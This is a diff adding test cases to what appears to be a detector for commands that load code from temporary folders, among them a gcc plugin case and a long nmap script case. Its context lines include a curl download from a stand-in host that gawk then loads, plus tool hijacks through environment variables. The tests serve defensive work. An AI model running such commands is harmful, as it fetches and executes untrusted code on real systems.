@@ -30,6 +30,7 @@ describe('code of a temporary folder that an option makes a program load', () =>
     'KUBECTL_EXTERNAL_DIFF=/tmp/a kubectl diff -k deploy',
     'curl -so /tmp/a.so https://x.test/a.so && gawk -l /tmp/a.so 1',
     'make CC=/tmp/b/../bin/../a all',
+    `gcc ${'/tmp/a.o '.repeat(100)}-fplugin=/tmp/a.so`,
   ])('%s', async (command) => {
     await expect(command).toTell(LOADS);
   });
@@ -57,6 +58,7 @@ describe('code of a temporary folder that an option makes a program load', () =>
     'node /tmp/a.js --import',
     'nmap -oN /tmp/scan.txt --script=vuln box',
     'KUBECTL_EXTERNAL_DIFF="diff -u" kubectl diff -f /tmp/a.yaml',
+    `nmap ${'-oN /tmp/a '.repeat(64)}--script=/tmp/a.nse`,
   ])('not in %s', async (command) => {
     await expect(command).not.toTell(LOADS);
   });
